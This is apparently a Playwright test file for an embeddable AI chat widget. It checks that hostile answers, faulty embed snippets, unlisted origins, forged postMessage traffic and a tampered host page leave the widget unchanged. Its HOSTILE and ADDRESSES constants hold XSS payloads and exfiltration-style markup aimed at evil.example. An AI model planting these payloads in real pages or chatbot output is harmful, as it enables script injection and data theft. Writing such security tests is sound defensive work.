"""What a wrong snippet, a hostile page or a hostile answer can do to the widget: nothing."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Page, expect

from retrieval.model import Citation, Sentence
from tests.browser.visitor.serving import Milo, Stranger, page_with
from tests.browser.visitor.walking import VISITOR_ID, answered, ask, chat, open_chat, requests, said

pytestmark = pytest.mark.browser

HOSTILE = (
    "![x](https://evil.example/p.png?q=SECRET)",
    "<img src=https://evil.example/?q=1 onerror=alert(1)>",
    "[click](javascript:alert(1)) <a href=https://evil.example>here</a>",
    "<script>fetch('https://evil.example')</script><style>@import url(https://evil.example/a.css)</style>",
    "<svg onload=alert(1)><iframe src=https://evil.example></iframe>",
    "&lt;img src=x&gt; {{7*7}} ${7*7} \u202etxet",
)
ADDRESSES = (
    "javascript:alert(1)",
    "data:text/html,x",
    "https://user:pw@evil.example/",
    "file:notes.pdf",
    "//evil.example",
)


def test_hostile_answer_is_text_and_nothing_else(page: Page, stranger: Stranger, milo: Milo) -> None:
    milo.script.sentences = tuple(
        Sentence(text, (Citation(1, text, ADDRESSES[number % len(ADDRESSES)], text, 1),))
        for number, text in enumerate(HOSTILE)
    )
    frame = open_chat(page, stranger)
    ask(frame)
    marks = frame.locator(".mark")
    expect(marks).to_have_count(len(HOSTILE))
    for number in range(len(HOSTILE)):
        marks.nth(number).click()
    for text in HOSTILE:
        expect(frame.locator(".theirs")).to_contain_text(text)
    assert frame.locator(".theirs :is(img, svg, script, style, iframe, a, form, video)").count() == 0
    ours = (milo.url, stranger.url)
    assert [url for url in requests(page) if not url.startswith(ours)] == []
    assert said(page) == []


@pytest.mark.parametrize(
    ("make", "warns", "launchers"),
    [
        (lambda milo: page_with(milo, copies=2), "stands twice", 1),
        (lambda milo: page_with(milo, key=""), "no valid data-key", 0),
        (lambda milo: page_with(milo, key="<b>"), "no valid data-key", 0),
    ],
    ids=["two copies", "no key", "broken key"],
)
def test_wrong_snippet_stays_silent_with_one_warning(
    page: Page, stranger: Stranger, milo: Milo, make: Any, warns: str, launchers: int
) -> None:
    stranger.pages["/"] = make(milo)
    page.goto(stranger.url)
    page.wait_for_load_state("networkidle")
    expect(page.locator("milo-chat")).to_have_count(launchers)
    assert len(said(page)) == 1
    assert said(page)[0].startswith("warning: Milo:")
    assert warns in said(page)[0]


def test_unknown_key_takes_the_button_away(page: Page, stranger: Stranger, milo: Milo) -> None:
    stranger.pages["/"] = page_with(milo, key="w_unknown")
    page.goto(stranger.url)
    page.get_by_role("button", name="Chat").click()
    expect(page.locator("milo-chat")).to_have_count(0)
    ours = [line for line in said(page) if "Milo" in line]
    assert len(ours) == 1
    assert "not known" in ours[0]


def test_only_listed_sites_may_embed(page: Page, stranger: Stranger, milo: Milo) -> None:
    milo.sql("UPDATE businesses SET allowed_origins = '{https://somewhere.example}'")
    page.goto(stranger.url)
    page.get_by_role("button", name="Chat").click()
    expect(page.get_by_text("The chat cannot be reached right now.")).to_be_visible()
    milo.sql("UPDATE businesses SET allowed_origins = ARRAY[%s]", stranger.url)
    page.get_by_role("button", name="Try again").click()
    expect(chat(page).get_by_text("I am an AI")).to_be_visible()


def test_host_page_cannot_speak_for_a_stranger_or_change_the_chat(page: Page, stranger: Stranger, milo: Milo) -> None:
    frame = open_chat(page, stranger)
    page.evaluate(
        """() => {
          const frame = document.querySelector('milo-chat').shadowRoot.querySelector('iframe').contentWindow;
          const types = ['hello', 'opened', 'closed', 'ready', 'visitor', 'forget', 'constructor', '__proto__', ''];
          for (let i = 0; i < 1000; i++) {
            const type = 'milo:' + types[i % types.length];
            const junk = [{type, visitor: 'x'.repeat(i)}, type, null, i, [type], {type: {}}, {type, id: '<b>'}][i % 7];
            frame.postMessage(junk, '*');
            window.postMessage(junk, '*');
          }
        }"""
    )
    ask(frame)
    answered(frame)
    kept = page.evaluate("() => ({...localStorage})")
    assert list(kept) == [f"milo:{milo.key}"]
    assert VISITOR_ID.match(kept[f"milo:{milo.key}"])


def test_hostile_host_page_changes_nothing(page: Page, stranger: Stranger, milo: Milo) -> None:
    page.add_init_script(
        """if (location.hostname === 'localhost') {
          const mine = () => { throw new Error('mine') };
          Object.prototype.polluted = 1;
          Array.prototype.extra = () => {};
          window.fetch = mine;
          JSON.parse = JSON.stringify = mine;
        }"""
    )
    frame = open_chat(page, stranger)
    ask(frame)
    answered(frame)
    assert said(page) == []
